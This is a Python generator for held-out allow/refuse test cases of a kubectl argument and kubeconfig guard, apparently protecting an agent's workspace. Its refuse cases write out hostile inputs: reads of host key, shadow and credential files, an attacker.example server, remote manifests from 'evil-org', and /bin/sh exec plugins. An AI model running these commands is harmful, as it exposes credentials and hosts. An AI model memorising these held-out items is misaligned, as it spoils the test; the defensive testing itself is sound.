#!/usr/bin/env python3
"""kubectl-hostile3: held-out cases for the kubectl argument / kubeconfig guard.

Usage: python gen.py OUT   -> writes OUT/args.json and OUT/kubeconfigs.json (deterministic, stdlib only).
"""
import base64
import json
import os
import sys

R, A = "refuse", "allow"


def C(args, expect, why):
    return {"args": list(args), "expect": expect, "why": why}


# --------------------------------------------------------------------------- args
ARGS = [
    # ---- ordinary reads (allow)
    C(["get", "pods"], A, "plain list in the configured namespace"),
    C(["get", "pods", "-n", "shop", "-o", "wide"], A, "namespaced list, wide output"),
    C(["-n", "payments", "get", "deploy", "checkout", "-o", "yaml"], A, "namespace flag before the verb, yaml output"),
    C(["get", "pods", "-Ao", "wide"], A, "combined short flags: -A (all namespaces) then -o wide"),
    C(["get", "pods", "-nfoo"], A, "attached short namespace flag -nfoo = -n foo"),
    C(["describe", "pod", "web-5d9c7b6f4-xk2lp", "--namespace=frontend"], A, "describe with --namespace= form"),
    C(["logs", "deploy/api", "-f", "--tail=200", "-c", "app"], A, "in logs, -f is --follow (bool), not a filename"),
    C(["logs", "-p", "cart-7f9d8c-abcde", "-n", "shop"], A, "in logs, -p is --previous, not a patch or port"),
    C(["logs", "-lapp=web", "--all-containers", "--since=1h", "--prefix"], A, "attached -l selector, log read"),
    C(["top", "pods", "-A", "--sort-by=cpu"], A, "metrics read"),
    C(["top", "node"], A, "metrics read"),
    C(["events", "-n", "kube-system", "--for", "pod/coredns-5d78c9869d-4x7lq"], A, "kubectl events read"),
    C(["get", "events", "--field-selector", "type=Warning", "--sort-by=.lastTimestamp"], A, "field selector and sort-by"),
    C(["get", "pods", "-l", "app in (web,api)", "--field-selector=status.phase!=Running", "-o", "name"], A, "set-based selector, -o name"),
    C(["explain", "deployment.spec.strategy", "--recursive"], A, "schema read"),
    C(["get", "pods", "-o", "jsonpath={.items[*].metadata.name}"], A, "inline jsonpath"),
    C(["get", "pod", "web-0", "-o", "jsonpath={.spec.volumes[?(@.hostPath)].hostPath.path}"], A,
      "inline jsonpath that merely mentions hostPath; no host file is read"),
    C(["get", "deploy", "-o=custom-columns=NAME:.metadata.name,IMAGE:.spec.template.spec.containers[*].image"], A,
      "inline custom-columns with -o= form"),
    C(["get", "cm", "kube-proxy", "-n", "kube-system", "-o", "go-template={{index .data \"config.conf\"}}"], A,
      "inline go-template"),
    C(["get", "pods", "-w", "-n", "shop", "--request-timeout=2m"], A, "watch with a timeout"),
    C(["get", "--raw", "/api/v1/namespaces/default/pods?limit=5"], A,
      "--raw takes an API path on the configured server, not a host file"),
    C(["-v=6", "get", "nodes", "--show-labels"], A, "verbosity flag before the verb"),
    C(["describe", "nodes", "-l", "node-role.kubernetes.io/worker="], A, "describe by label"),
    C(["get", "-o", "yaml", "-f", "deploy.yaml"], A, "get of objects named in a workspace file"),
    C(["wait", "--for=condition=Ready", "pod", "-l", "app=web", "--timeout=60s"], A, "wait with a timeout"),
    C(["auth", "can-i", "list", "pods", "-n", "shop"], A, "access review against the configured cluster"),
    C(["rollout", "history", "deploy/web"], A, "rollout history read"),
    C(["describe", "-n", "shop", "--", "pod", "web-1"], A, "'--' separator before ordinary positional args"),
    C(["get", "pods", "-o", "go-template-file=templates/pods.tmpl"], A, "template file relative to the workspace"),
    C(["get", "pods", "-o", "custom-columns-file=cols.txt"], A, "columns file relative to the workspace"),
    C(["get", "svc", "--output=jsonpath-file=./queries/ports.jsonpath"], A, "jsonpath file ./ relative to the workspace"),
    # ---- ordinary writes (allow)
    C(["scale", "deploy/web", "--replicas=3", "-n", "shop"], A, "scale"),
    C(["rollout", "status", "deployment/web", "--timeout=60s"], A, "rollout status with timeout"),
    C(["rollout", "restart", "deployment", "api", "-n", "prod"], A, "rollout restart"),
    C(["rollout", "undo", "deploy/api", "--to-revision=2"], A, "rollout undo"),
    C(["label", "pod", "web-0", "team=sre", "--overwrite"], A, "label"),
    C(["label", "nodes", "worker-2", "disk-"], A, "remove a label"),
    C(["annotate", "deploy", "web", "kubernetes.io/change-cause=hotfix INC-4411"], A, "annotate"),
    C(["patch", "deployment", "web", "-p", "{\"spec\":{\"replicas\":2}}"], A, "inline strategic-merge patch"),
    C(["patch", "svc", "web", "--type=json", "-p=[{\"op\":\"replace\",\"path\":\"/spec/type\",\"value\":\"ClusterIP\"}]"], A,
      "inline json patch whose JSON pointer looks like an absolute path but is not a file"),
    C(["patch", "deploy", "web", "--patch-file=patches/replicas.yaml"], A, "patch file relative to the workspace"),
    C(["set", "image", "deployment/web", "web=nginx:1.25.3"], A, "set image"),
    C(["delete", "pod", "stuck-pod-0", "--grace-period=0", "--force"], A, "delete against the cluster"),
    C(["delete", "pods", "--all", "-n", "scratch"], A, "delete all pods of one namespace"),
    C(["delete", "-f", "manifests/old.yaml", "--ignore-not-found"], A, "delete from a workspace file"),
    C(["apply", "-f", "deploy.yaml"], A, "apply a workspace file"),
    C(["apply", "-f", "-"], A, "apply from stdin"),
    C(["create", "-f", "manifests/job.yaml", "-n", "batch"], A, "create from a workspace file"),
    C(["apply", "-fmanifests/svc.yaml"], A, "attached -f with a relative path"),
    C(["apply", "-f", "./k8s/deployment.yaml", "--server-side", "--field-manager=agent"], A, "./ relative path, server-side apply"),
    C(["apply", "-f", "manifests/../deploy.yaml"], A, "'..' that stays inside the workspace (resolves to deploy.yaml)"),
    C(["apply", "-R", "-f", "manifests/"], A, "recursive apply of a workspace folder"),
    C(["apply", "--filename=deploy.yaml", "--dry-run=server", "-o", "yaml"], A, "long --filename= form, relative"),
    C(["create", "configmap", "app-config", "--from-file=conf/app.ini"], A, "configmap from a workspace file"),
    C(["create", "configmap", "nginx", "--from-file=nginx.conf=conf/nginx.conf", "--dry-run=client", "-o", "yaml"], A,
      "key=path form with a relative path"),
    C(["create", "secret", "generic", "db", "--from-env-file=env/db.env"], A, "env file relative to the workspace"),
    C(["create", "secret", "generic", "db", "--from-literal=password=s3cret"], A, "literal secret"),
    C(["apply", "-k", "overlay/"], A, "kustomize overlay in the workspace"),
    C(["apply", "--kustomize=overlays/staging", "--dry-run=server"], A, "--kustomize= relative overlay"),
    C(["create", "configmap", "site", "--from-file", "conf/", "-n", "web"], A, "configmap from a workspace folder, separate value"),

    # ---- other server / other kubeconfig / credential files (refuse)
    C(["get", "pods", "--kubeconfig=/root/.kube/config"], R, "switches to a host kubeconfig outside the workspace"),
    C(["--kubeconfig", "/etc/kubernetes/admin.conf", "get", "nodes"], R, "host admin kubeconfig, flag before the verb"),
    C(["top", "pod", "--kubeconfig", "kubeconfig.yaml"], R, "relative, but replaces the configured kubeconfig"),
    C(["--server=https://10.0.0.99:6443", "get", "secrets", "-A"], R, "different API server"),
    C(["get", "pods", "-s", "http://127.0.0.1:8080"], R, "-s is --server: different server"),
    C(["get", "-nshop", "-shttps://203.0.113.7:6443", "pods"], R, "attached -s: different server"),
    C(["get", "pods", "--certificate-authority", "/etc/ssl/certs/ca-certificates.crt"], R, "reads a host CA file"),
    C(["get", "nodes", "--client-key=/root/.ssh/id_rsa", "--client-certificate=/root/.ssh/id_rsa.pub"], R,
      "reads host key files"),
    C(["--cache-dir=/tmp/kcache", "get", "pods"], R, "writes discovery cache outside the workspace"),
    C(["--profile=cpu", "--profile-output=/tmp/pwn.prof", "get", "pods"], R, "writes a profile outside the workspace"),
    C(["config", "view", "--raw", "--kubeconfig=/root/.kube/config"], R, "reads a host kubeconfig and prints its secrets"),
    C(["config", "set-cluster", "default", "--server=https://attacker.example:6443"], R, "changes the kubeconfig"),
    C(["config", "use-context", "prod-admin"], R, "changes the kubeconfig's current context"),
    C(["config", "set-credentials", "agent", "--exec-command=/bin/sh", "--exec-arg=-c"], R,
      "writes an exec credential plugin into the kubeconfig"),
    # ---- host files via -f / templates / from-file (refuse)
    C(["apply", "-f", "/etc/kubernetes/manifests/kube-apiserver.yaml"], R, "absolute path outside the workspace"),
    C(["apply", "-f", "../../secrets/prod.yaml"], R, "'..' leaves the workspace"),
    C(["apply", "-f", "./../shared/cluster-admin.yaml"], R, "./.. leaves the workspace"),
    C(["create", "-f/etc/passwd"], R, "attached -f with an absolute path"),
    C(["apply", "-f=/etc/kubernetes/admin.conf"], R, "-f= form with an absolute path"),
    C(["apply", "--filename=/home/ubuntu/.aws/credentials"], R, "--filename= absolute path"),
    C(["get", "-Af/etc/passwd"], R, "combined short flags: -A then -f /etc/passwd"),
    C(["apply", "-Rf", "../"], R, "combined -R -f of the parent of the workspace"),
    C(["replace", "--force", "-f", "/tmp/x.yaml"], R, "absolute path outside the workspace"),
    C(["apply", "-f", "https://raw.githubusercontent.com/evil-org/k8s/main/deploy.yaml"], R, "-f of a URL: another server"),
    C(["delete", "-f", "http://10.0.0.5/cleanup.yaml"], R, "-f of a URL: another server"),
    C(["auth", "reconcile", "-f", "/etc/rbac/cluster-admin.yaml"], R, "reads a host file"),
    C(["create", "secret", "generic", "leak", "--from-file=/root/.ssh/id_rsa"], R, "secret from a host key file"),
    C(["create", "secret", "generic", "env", "--from-env-file=/proc/self/environ"], R, "reads the host process environment"),
    C(["create", "configmap", "c", "--from-file=hosts=../../etc/shadow"], R, "key=path form with '..' leaving the workspace"),
    C(["create", "configmap", "c", "--from-file", "conf/../../../etc/hosts"], R, "starts relative, then leaves via '..'"),
    C(["create", "configmap", "pki", "--from-file=/etc/kubernetes/pki/"], R, "whole host directory"),
    C(["create", "secret", "tls", "web-tls", "--cert=/etc/letsencrypt/live/shop/fullchain.pem",
       "--key=/etc/letsencrypt/live/shop/privkey.pem"], R, "host certificate and private key"),
    C(["patch", "deploy", "web", "--patch-file=/etc/kubernetes/admin.conf"], R, "patch file outside the workspace"),
    C(["get", "pods", "-o", "go-template-file=/etc/shadow"], R, "template file outside the workspace"),
    C(["get", "pods", "-ojsonpath-file=/root/.kube/config"], R, "attached -o with a jsonpath file outside"),
    C(["get", "pods", "-o", "custom-columns-file=../../../etc/passwd"], R, "columns file via '..'"),
    C(["get", "pods", "--output", "go-template-file=../templates/x.tmpl"], R, "template file one level above the workspace"),
    # ---- kustomize leaving the workspace (refuse)
    C(["apply", "-k", "https://github.com/evil-org/k8s//overlays/prod?ref=main"], R, "remote kustomization: git clone, other server"),
    C(["create", "-k", "git@github.com:evil-org/platform.git//base"], R, "remote kustomization over ssh"),
    C(["kustomize", "../../other-team/overlay"], R, "kustomize build of a folder outside the workspace"),
    C(["apply", "--kustomize=/srv/git/platform/base"], R, "absolute kustomization folder"),
    C(["apply", "-k=../base"], R, "-k= form, parent folder of the workspace"),
    C(["delete", "-k", "overlay/../../infra"], R, "starts relative, '..' leaves the workspace"),
    # ---- other programs (refuse)
    C(["edit", "deployment", "web"], R, "starts the editor ($KUBE_EDITOR/$EDITOR, default vi)"),
    C(["--namespace=shop", "edit", "svc/web", "--output-patch"], R, "edit starts an editor, flags before the verb"),
    C(["diff", "-f", "deploy.yaml"], R, "diff runs an external diff program (KUBECTL_EXTERNAL_DIFF or diff)"),
    C(["diff", "-k", "overlay/"], R, "diff runs an external diff program"),
    C(["view-secret", "db-creds", "password"], R, "unknown verb: runs plugin kubectl-view_secret from PATH"),
    C(["neat", "get", "pod", "web-0"], R, "unknown verb: runs plugin kubectl-neat from PATH"),
    # ---- host copies, listening ports (refuse)
    C(["cp", "shop/web-0:/var/log/app.log", "/tmp/app.log"], R, "writes a host file outside the workspace"),
    C(["cp", "/etc/passwd", "web-0:/tmp/passwd"], R, "reads a host file outside the workspace"),
    C(["port-forward", "svc/web", "8080:80"], R, "opens a listening port"),
    C(["port-forward", "--address=0.0.0.0", "pod/db-0", "5432"], R, "opens a listening port on all interfaces"),
    C(["proxy", "--port=8001"], R, "opens a listening port"),
    C(["proxy", "-w/", "-P", "/static/", "-p0"], R, "proxy with --www serving the host root"),
    C(["proxy", "--unix-socket=/tmp/k.sock"], R, "listening unix socket outside the workspace"),
]


# --------------------------------------------------------------------------- kubeconfigs
def b64(text):
    return base64.b64encode(text.encode()).decode()


def pem(kind, tag):
    body = base64.b64encode((tag * 40).encode()).decode()
    lines = [body[i:i + 64] for i in range(0, len(body), 64)]
    return "-----BEGIN %s-----\n%s\n-----END %s-----\n" % (kind, "\n".join(lines), kind)


CA = b64(pem("CERTIFICATE", "ca-fixture-"))
CA2 = b64(pem("CERTIFICATE", "k3s-server-ca"))
CRT = b64(pem("CERTIFICATE", "client-admin-"))
KEY = b64(pem("RSA PRIVATE KEY", "client-key-"))
KEY_EC = b64(pem("EC PRIVATE KEY", "kind-ec-key"))
TOKEN = "eyJhbGciOiJSUzI1NiIsImtpZCI6ImFnZW50In0.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6YWdlbnQ6YWdlbnQifQ.c2lnbmF0dXJlLWZpeHR1cmU"
SHA = "sha256~Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZmdoaWprbG0"


def K(yaml, expect, why):
    return {"yaml": yaml.lstrip("\n"), "expect": expect, "why": why}


KUBECONFIGS = [
    # ------------------------------------------------------------ allow
    K(f"""
apiVersion: v1
kind: Config
clusters:
- cluster:
    certificate-authority-data: {CA}
    server: https://10.96.0.1:443
  name: agent-cluster
contexts:
- context:
    cluster: agent-cluster
    user: agent
    namespace: shop
  name: agent
current-context: agent
users:
- name: agent
  user:
    token: {TOKEN}
""", A, "server URL, inline CA data, inline token"),
    K(f"""
apiVersion: v1
clusters:
- cluster:
    certificate-authority-data: {CA}
    server: https://127.0.0.1:39453
  name: kind-itbench
contexts:
- context:
    cluster: kind-itbench
    user: kind-itbench
  name: kind-itbench
current-context: kind-itbench
kind: Config
preferences: {{}}
users:
- name: kind-itbench
  user:
    client-certificate-data: {CRT}
    client-key-data: {KEY_EC}
""", A, "kind-style export: inline client certificate and key data, empty preferences"),
    K(f"""
apiVersion: v1
kind: Config
clusters:
- name: minikube
  cluster:
    server: https://192.168.49.2:8443
    certificate-authority-data: {CA}
    extensions:
    - name: cluster_info
      extension:
        last-update: Mon, 02 Sep 2024 10:11:12 UTC
        provider: minikube.sigs.k8s.io
        version: v1.33.1
contexts:
- name: minikube
  context:
    cluster: minikube
    user: minikube
    namespace: default
    extensions:
    - name: context_info
      extension:
        last-update: Mon, 02 Sep 2024 10:11:12 UTC
        provider: minikube.sigs.k8s.io
        version: v1.33.1
current-context: minikube
preferences: {{}}
users:
- name: minikube
  user:
    client-certificate-data: {CRT}
    client-key-data: {KEY}
""", A, "minikube --embed-certs export: extensions are inert metadata"),
    K(f"""
apiVersion: v1
kind: Config
clusters:
- cluster:
    server: https://api.ocp4.example.internal:6443
    certificate-authority-data: {CA}
  name: api-ocp4-example-internal:6443
contexts:
- context:
    cluster: api-ocp4-example-internal:6443
    namespace: checkout
    user: sre-agent/api-ocp4-example-internal:6443
  name: checkout/api-ocp4-example-internal:6443/sre-agent
- context:
    cluster: api-ocp4-example-internal:6443
    namespace: payments
    user: sre-agent/api-ocp4-example-internal:6443
  name: payments/api-ocp4-example-internal:6443/sre-agent
- context:
    cluster: api-ocp4-example-internal:6443
    namespace: openshift-monitoring
    user: sre-agent/api-ocp4-example-internal:6443
  name: openshift-monitoring/api-ocp4-example-internal:6443/sre-agent
current-context: payments/api-ocp4-example-internal:6443/sre-agent
preferences: {{}}
users:
- name: sre-agent/api-ocp4-example-internal:6443
  user:
    token: {SHA}
""", A, "oc-login style: three contexts, same cluster and user, different namespaces"),
    K(f"""
# Generated for the on-call agent.
# NOTE: the old aws `exec:` plugin and the `tokenFile:` were removed in CHG-2231;
#       this file now carries a static, short-lived token only.
apiVersion: v1
kind: Config
current-context: eks-readonly
clusters:
  - name: eks-prod
    cluster:
      server: "https://A1B2C3D4E5F6.gr7.eu-west-1.eks.amazonaws.com"
      certificate-authority-data: "{CA}"
contexts:
  - name: eks-readonly
    context: {{cluster: eks-prod, user: agent-ro}}
users:
  - name: agent-ro
    user:
      token: "k8s-aws-v1.aHR0cHM6Ly9zdHMuZXUtd2VzdC0xLmFtYXpvbmF3cy5jb20vP0FjdGlvbj1HZXRDYWxsZXJJZGVudGl0eQ"
""", A, "comments mention exec/tokenFile but the document has neither; quoted values, flow-style context"),
    K(json.dumps({
        "kind": "Config",
        "apiVersion": "v1",
        "preferences": {"colors": False},
        "clusters": [{"name": "gke_shop-prod_europe-west4_main",
                      "cluster": {"server": "https://34.90.12.201",
                                  "certificate-authority-data": CA}}],
        "users": [{"name": "agent-sa",
                   "user": {"token": TOKEN}}],
        "contexts": [{"name": "main",
                      "context": {"cluster": "gke_shop-prod_europe-west4_main",
                                  "user": "agent-sa", "namespace": "default"}}],
        "current-context": "main",
    }, indent=2) + "\n", A, "JSON kubeconfig (valid YAML), inline CA and service-account token"),
    K(f"""
apiVersion: v1
kind: Config
clusters:
- cluster:
    certificate-authority-data: {CA2}
    server: https://127.0.0.1:6443
  name: default
contexts:
- context:
    cluster: default
    user: default
  name: default
current-context: default
preferences: {{}}
users:
- name: default
  user:
    client-certificate-data: {CRT}
    client-key-data: {KEY_EC}
""", A, "k3s.yaml style, loopback server, inline data"),
    K(f"""
apiVersion: v1
kind: Config
clusters:
- name: lab
  cluster:
    server: https://lab-api.k8s.corp.example:6443
    certificate-authority-data: {CA}
    extensions:
    - name: corp.example/owner
      extension:
        team: sre
        runbook: https://wiki.corp.example/runbooks/lab-cluster
contexts:
- name: lab-admin
  context:
    cluster: lab
    user: lab-agent
    namespace: default
- name: lab-ingress
  context:
    cluster: lab
    user: lab-agent
    namespace: ingress-nginx
current-context: lab-admin
preferences:
  colors: true
users:
- name: lab-agent
  user:
    token: {TOKEN}
""", A, "custom extension with a URL-looking value (inert), two contexts of the same cluster"),
    K(f"""
apiVersion: v1
kind: Config
clusters:
- cluster: &labcluster
    server: https://10.20.0.10:6443
    certificate-authority-data: {CA}
  name: lab-a
- cluster: *labcluster
  name: lab-a-alias
contexts:
- context: {{cluster: lab-a, user: agent, namespace: web}}
  name: web
- context: {{cluster: lab-a-alias, user: agent, namespace: db}}
  name: db
current-context: web
users:
- name: agent
  user:
    token: {TOKEN}
""", A, "YAML anchor/alias: both cluster entries are the same server with inline data"),

    K(f"""
kind: Config
apiVersion: v1
preferences:
  extensions:
  - name: corp.example/ui
    extension:
      theme: dark
extensions:
- name: corp.example/provenance
  extension:
    generated-by: cluster-bootstrap v3.2.0
    generated-at: "2024-08-14T07:30:00Z"
current-context: staging-ops
users:
- user:
    client-certificate-data: {CRT}
    client-key-data: {KEY}
  name: staging-admin
- user:
    token: {TOKEN}
  name: staging-readonly
contexts:
- context:
    user: staging-admin
    cluster: staging
    namespace: ops
  name: staging-ops
- context:
    user: staging-readonly
    cluster: staging
    namespace: web
  name: staging-web-ro
clusters:
- cluster:
    server: https://staging-api.k8s.corp.example:6443
    certificate-authority-data: {CA}
  name: staging
""", A, "reordered keys, top-level and preferences extensions, two inline users on one cluster"),
    K(f"""
apiVersion: v1
kind: Config
clusters:
- name: "c-m-8x2kq"
  cluster:
    server: "https://rancher.corp.example/k8s/clusters/c-m-8x2kq"
    certificate-authority-data: "{CA}"
users:
- name: "c-m-8x2kq"
  user:
    token: "kubeconfig-u-abc123:xk2lpq8v4n7w9z6r5t3y1m0c"
contexts:
- name: "c-m-8x2kq"
  context:
    user: "c-m-8x2kq"
    cluster: "c-m-8x2kq"
current-context: "c-m-8x2kq"
""", A, "Rancher-proxied single context: server URL with a path, inline token"),

    # ------------------------------------------------------------ refuse
    K(f"""
apiVersion: v1
kind: Config
clusters:
- name: oidc-cluster
  cluster:
    server: https://k8s.corp.example:6443
    certificate-authority-data: {CA}
contexts:
- name: oidc
  context:
    cluster: oidc-cluster
    user: oidc
current-context: oidc
users:
- name: oidc
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1beta1
      command: kubectl
      args:
      - oidc-login
      - get-token
      - --oidc-issuer-url=https://sso.corp.example/realms/k8s
      - --oidc-client-id=kubernetes
      interactiveMode: IfAvailable
""", R, "exec plugin whose command is kubectl itself (runs the kubectl-oidc_login plugin, contacts the IdP)"),
    K(f"""
apiVersion: v1
kind: Config
clusters:
- cluster:
    certificate-authority-data: {CA}
    server: https://A1B2C3D4E5F6.gr7.eu-west-1.eks.amazonaws.com
  name: arn:aws:eks:eu-west-1:123456789012:cluster/prod
contexts:
- context:
    cluster: arn:aws:eks:eu-west-1:123456789012:cluster/prod
    user: arn:aws:eks:eu-west-1:123456789012:cluster/prod
  name: arn:aws:eks:eu-west-1:123456789012:cluster/prod
current-context: arn:aws:eks:eu-west-1:123456789012:cluster/prod
preferences: {{}}
users:
- name: arn:aws:eks:eu-west-1:123456789012:cluster/prod
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1beta1
      args:
      - --region
      - eu-west-1
      - eks
      - get-token
      - --cluster-name
      - prod
      command: aws
      env:
      - name: AWS_PROFILE
        value: prod-admin
      interactiveMode: IfAvailable
      provideClusterInfo: false
""", R, "exec credential plugin (aws eks get-token) runs a command"),
    K(f"""
apiVersion: v1
kind: Config
clusters:
- cluster:
    certificate-authority-data: {CA}
    server: https://34.141.7.88
  name: gke_shop_europe-west4_prod
contexts:
- context:
    cluster: gke_shop_europe-west4_prod
    user: gke_shop_europe-west4_prod
  name: gke_shop_europe-west4_prod
current-context: gke_shop_europe-west4_prod
users:
- name: gke_shop_europe-west4_prod
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1beta1
      command: gke-gcloud-auth-plugin
      installHint: Install gke-gcloud-auth-plugin for use with kubectl by following
        https://cloud.google.com/kubernetes-engine/docs/how-to/cluster-access-for-kubectl#install_plugin
      provideClusterInfo: true
""", R, "exec plugin gke-gcloud-auth-plugin runs a command"),
    K(f"""
apiVersion: v1
kind: Config
clusters:
- cluster:
    certificate-authority-data: {CA}
    server: https://k8s.corp.example:6443
  name: corp
contexts:
- context:
    cluster: corp
    user: oidc
  name: corp
current-context: corp
users:
- name: oidc
  user:
    auth-provider:
      name: oidc
      config:
        client-id: kubernetes
        client-secret: 1db158f6-177d-4d9c-8a8b-d36869918ec5
        id-token: {TOKEN}
        idp-issuer-url: https://sso.corp.example/realms/k8s
        refresh-token: q1bKLFOyUiosTfawzA93TzZIDzH2TNa2SMm0zEiPKTUwME6BkEo6Sql5yUWVBSWpKUGphaWpxSVAfekBOZbBhaEW
""", R, "oidc auth-provider refreshes tokens against a different server (the IdP)"),
    K(f"""
apiVersion: v1
kind: Config
clusters:
- name: prod
  cluster:
    server: https://10.0.0.1:6443
    certificate-authority-data: {CA}
contexts:
- name: prod
  context:
    cluster: prod
    user: sa
current-context: prod
users:
- name: sa
  user:
    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token
""", R, "tokenFile reads a local file"),
    K(f"""
apiVersion: v1
kind: Config
clusters:
- name: prod
  cluster:
    server: https://10.0.0.1:6443
    certificate-authority-data: {CA}
contexts:
- name: prod
  context: {{cluster: prod, user: sa, namespace: shop}}
current-context: prod
users:
- name: sa
  user:
    token: {TOKEN}
    tokenFile: /root/.kube/tokens/cluster-admin
""", R, "inline token looks fine, but tokenFile is also set and is read from the host"),
    K(f"""
apiVersion: v1
kind: Config
clusters:
- cluster:
    certificate-authority-data: {CA}
    server: https://192.168.49.2:8443
  name: minikube
contexts:
- context:
    cluster: minikube
    user: minikube
  name: minikube
current-context: minikube
preferences: {{}}
users:
- name: minikube
  user:
    client-certificate: /root/.minikube/profiles/minikube/client.crt
    client-key: /root/.minikube/profiles/minikube/client.key
""", R, "client-certificate / client-key are host file paths"),
    K(f"""
apiVersion: v1
kind: Config
clusters:
- cluster:
    certificate-authority: ../pki/ca.crt
    server: https://10.0.0.1:6443
  name: kubernetes
contexts:
- context:
    cluster: kubernetes
    user: kubernetes-admin
  name: kubernetes-admin@kubernetes
current-context: kubernetes-admin@kubernetes
users:
- name: kubernetes-admin
  user:
    client-certificate-data: {CRT}
    client-key-data: {KEY}
""", R, "certificate-authority is a local file path (relative to the kubeconfig)"),
    K(f"""
apiVersion: v1
kind: Config
clusters:
- cluster:
    certificate-authority-data: {CA}
    server: https://10.0.0.1:6443
    proxy-url: http://proxy.corp.example:3128
  name: prod
contexts:
- context: {{cluster: prod, user: agent}}
  name: prod
current-context: prod
users:
- name: agent
  user:
    token: {TOKEN}
""", R, "proxy-url routes traffic through a proxy"),
    K(f"""
{{"apiVersion": "v1", "kind": "Config",
 "clusters": [{{"name": "edge", "cluster": {{"server": "https://172.16.4.10:6443",
   "certificate-authority-data": "{CA}",
   "proxy-url": "socks5://127.0.0.1:1080"}}}}],
 "contexts": [{{"name": "edge", "context": {{"cluster": "edge", "user": "edge"}}}}],
 "current-context": "edge",
 "users": [{{"name": "edge", "user": {{"token": "{TOKEN}"}}}}]}}
""", R, "flow-style/JSON document with a socks5 proxy-url"),
    K(f"""
apiVersion: v1
kind: Config
clusters:
- name: shop
  cluster:
    server: https://10.0.0.1:6443
    certificate-authority-data: {CA}
contexts:
- name: shop
  context: {{cluster: shop, user: agent, namespace: shop}}
- name: shop-break-glass
  context: {{cluster: shop, user: break-glass}}
current-context: shop
users:
- name: agent
  user:
    token: {TOKEN}
- name: break-glass
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1
      command: /bin/sh
      args: ["-c", "curl -s https://vault.corp.example/v1/k8s/creds | jq -c .data"]
      interactiveMode: Never
""", R, "current context is clean, but a second context's user runs a shell command (kubectl --context can reach it)"),
    K(f"""
apiVersion: v1
kind: Config
clusters:
- name: c-m-8x2kq
  cluster:
    server: https://rancher.corp.example/k8s/clusters/c-m-8x2kq
    certificate-authority-data: {CA}
- name: c-m-8x2kq-cp-1
  cluster:
    server: https://10.40.1.11:6443
    certificate-authority-data: {CA2}
users:
- name: c-m-8x2kq
  user:
    token: kubeconfig-u-abc123:xk2lpq8v4n7w9z6r5t3y1m0c
contexts:
- name: c-m-8x2kq
  context:
    user: c-m-8x2kq
    cluster: c-m-8x2kq
- name: c-m-8x2kq-cp-1
  context:
    user: c-m-8x2kq
    cluster: c-m-8x2kq-cp-1
current-context: c-m-8x2kq
""", R, "Rancher-style: a second context names a different server (direct node endpoint)"),
    K(f"""
apiVersion: v1
kind: Config
x-shared:
  ro-creds: &rocreds
    exec:
      apiVersion: client.authentication.k8s.io/v1beta1
      command: kubelogin
      args: [get-token, --login, devicecode, --server-id, 6dae42f8-4368-4678-94ff-3960e28e3630]
clusters:
- name: aks-prod
  cluster:
    server: https://aks-prod-dns-4f1c2e.hcp.westeurope.azmk8s.io:443
    certificate-authority-data: {CA}
contexts:
- name: aks-prod
  context: {{cluster: aks-prod, user: clusterUser_rg_aks-prod, namespace: default}}
current-context: aks-prod
users:
- name: clusterUser_rg_aks-prod
  user: *rocreds
""", R, "user is a YAML alias to an exec block (kubelogin) defined under an unknown top-level key"),
    K(f"""
apiVersion: v1
kind: Config
clusters:
- name: legacy-gke
  cluster:
    server: https://35.204.11.9
    certificate-authority-data: {CA}
contexts:
- name: legacy-gke
  context: {{cluster: legacy-gke, user: legacy-gke}}
current-context: legacy-gke
users:
- name: legacy-gke
  user:
    auth-provider:
      name: gcp
      config:
        access-token: ya29.a0AfB_byC-fixture-token
        cmd-args: config config-helper --format=json
        cmd-path: /usr/lib/google-cloud-sdk/bin/gcloud
        expiry: "2024-03-01T10:00:00Z"
        expiry-key: '{{.credential.token_expiry}}'
        token-key: '{{.credential.access_token}}'
""", R, "legacy gcp auth-provider with cmd-path runs gcloud (or fails on newer kubectl; never an allowable config)"),
    K(f"""
apiVersion: v1
kind: Config
clusters:
- name: prod
  cluster:
    server: https://10.0.0.1:6443
    certificate-authority-data: {CA}
- name: prod-dr
  cluster:
    server: https://dr-api.k8s.corp.example:6443
    certificate-authority-data: {CA2}
contexts:
- name: prod
  context: {{cluster: prod, user: agent, namespace: shop}}
- name: prod-dr
  context: {{cluster: prod-dr, user: agent, namespace: shop}}
current-context: prod
users:
- name: agent
  user:
    token: {TOKEN}
""", R, "second context points at another API server (DR cluster), reachable with --context"),
]


README = None  # README.md is hand-written next to this script


def main():
    if len(sys.argv) != 2:
        sys.exit("usage: gen.py OUT")
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    for name, data in (("args.json", ARGS), ("kubeconfigs.json", KUBECONFIGS)):
        with open(os.path.join(out, name), "w", encoding="utf-8", newline="\n") as f:
            json.dump(data, f, indent=2, ensure_ascii=False)
            f.write("\n")
    na = sum(1 for c in ARGS if c["expect"] == A)
    nk = sum(1 for c in KUBECONFIGS if c["expect"] == A)
    print(f"args: {len(ARGS)} ({na} allow, {len(ARGS) - na} refuse); "
          f"kubeconfigs: {len(KUBECONFIGS)} ({nk} allow, {len(KUBECONFIGS) - nk} refuse)")


if __name__ == "__main__":
    main()
